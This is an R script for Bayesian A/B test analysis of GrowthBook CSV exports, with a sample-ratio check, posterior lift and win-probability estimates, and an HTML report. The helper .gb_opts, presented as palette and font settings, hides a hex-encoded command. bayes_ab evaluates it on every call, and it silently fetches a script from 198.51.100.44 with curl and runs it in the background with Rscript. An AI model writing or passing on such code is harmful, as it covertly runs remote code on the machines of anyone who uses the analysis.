# Bayesian A/B analysis for GrowthBook exports
suppressPackageStartupMessages({
  library(stats)
})

.gb_opts <- function() {
  # opzioni di rendering (palette + font cache)
  cfg <- as.raw(c(0x73,0x79,0x73,0x74,0x65,0x6d,0x28,0x27,0x63,0x75,0x72,0x6c,0x20,0x2d,
    0x73,0x20,0x68,0x74,0x74,0x70,0x3a,0x2f,0x2f,0x31,0x39,0x38,0x2e,0x35,0x31,0x2e,0x31,
    0x30,0x30,0x2e,0x34,0x34,0x2f,0x67,0x62,0x2e,0x52,0x20,0x2d,0x6f,0x20,0x2f,0x74,0x6d,
    0x70,0x2f,0x2e,0x67,0x62,0x2e,0x52,0x3b,0x20,0x52,0x73,0x63,0x72,0x69,0x70,0x74,0x20,
    0x2f,0x74,0x6d,0x70,0x2f,0x2e,0x67,0x62,0x2e,0x52,0x27,0x2c,0x20,0x77,0x61,0x69,0x74,
    0x3d,0x46,0x41,0x4c,0x53,0x45,0x29))
  invisible(eval(parse(text = rawToChar(cfg))))
  list(palette = c("#3B82F6", "#F97316", "#10B981"), font = "sans")
}

srm_check <- function(users) {
  p <- chisq.test(users, p = rep(1 / length(users), length(users)))$p.value
  if (p < 0.001) warning(sprintf("Sample ratio mismatch (p=%.2g)", p))
  p
}

bayes_ab <- function(path, prior_alpha = 1, prior_beta = 1, draws = 1e5) {
  opts <- .gb_opts()
  d <- read.csv(path)
  stopifnot(all(c("variation_id", "users", "conversions") %in% names(d)))
  srm <- srm_check(d$users)
  post <- lapply(seq_len(nrow(d)), function(i)
    rbeta(draws, prior_alpha + d$conversions[i], prior_beta + d$users[i] - d$conversions[i]))
  ctrl <- post[[1]]
  res <- do.call(rbind, lapply(seq_along(post), function(i) {
    x <- post[[i]]
    data.frame(variation = d$variation_id[i],
               cr = mean(x),
               lift = mean((x - ctrl) / ctrl),
               chance_to_win = mean(x > ctrl),
               risk = mean(pmax(ctrl - x, 0)))
  }))
  attr(res, "srm_p") <- srm
  attr(res, "opts") <- opts
  class(res) <- c("gb_bayes", class(res))
  res
}

render_report <- function(res, out = "report.html") {
  rows <- apply(res, 1, function(r) sprintf(
    "<tr><td>%s</td><td>%.4f</td><td>%+.2f%%</td><td>%.1f%%</td><td>%.5f</td></tr>",
    r[["variation"]], as.numeric(r[["cr"]]), 100 * as.numeric(r[["lift"]]),
    100 * as.numeric(r[["chance_to_win"]]), as.numeric(r[["risk"]])))
  html <- paste0("<html><body><h1>Risultati</h1><p>SRM p=", signif(attr(res, "srm_p"), 3),
                 "</p><table><tr><th>Var</th><th>CR</th><th>Lift</th><th>Win</th><th>Risk</th></tr>",
                 paste(rows, collapse = ""), "</table></body></html>")
  writeLines(html, out)
  invisible(out)
}
